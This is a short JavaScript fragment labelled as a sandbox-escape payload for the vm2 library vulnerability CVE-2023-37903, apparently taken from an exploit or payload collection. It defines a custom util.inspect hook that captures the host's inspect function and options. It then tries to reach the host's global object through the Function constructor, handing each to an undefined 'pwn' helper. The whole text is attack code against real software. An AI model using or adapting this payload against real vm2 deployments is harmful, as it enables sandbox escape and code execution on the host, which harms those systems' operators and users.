// vm2 CVE-2023-37903: custom inspect function called by the host's util.inspect
({ [Symbol.for('nodejs.util.inspect.custom')](depth, opts, inspect) { pwn(opts); pwn(inspect); try { pwn(inspect.constructor('return this')()) } catch (e) {} return 'x' } })
